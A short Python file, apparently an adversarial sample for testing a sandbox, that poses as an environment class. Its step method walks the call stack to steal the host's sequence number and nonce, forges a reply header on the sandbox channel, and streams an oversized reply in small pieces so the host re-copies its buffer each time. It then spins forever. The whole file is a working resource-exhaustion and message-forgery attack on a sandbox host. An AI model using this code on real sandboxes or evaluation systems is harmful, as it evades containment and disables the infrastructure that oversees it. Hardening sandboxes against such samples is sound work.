# resource: a forged reply of K * 16 KiB sent in 256-byte pieces: the host copies the whole buffer at every piece
import dataclasses


class Env:
    def reset(self, seed=None):
        return "ready"

    def step(self, action):
        sys = dataclasses.sys
        f = sys._getframe()
        while "answers" not in f.f_locals:
            f = f.f_back
        k = len(sys._getframe(2).f_locals["indices"])
        os = sys.modules["os"]
        channel = sys.modules["openspade.sandbox.child.channel"]
        size = 16384 * k
        os.write(3, channel._HEADER.pack(size, f.f_locals["sequence"], f.f_locals["nonce"]))
        piece = b"x" * 256
        for _ in range(size // 256 - 1):
            os.write(3, piece)
        while True:
            pass
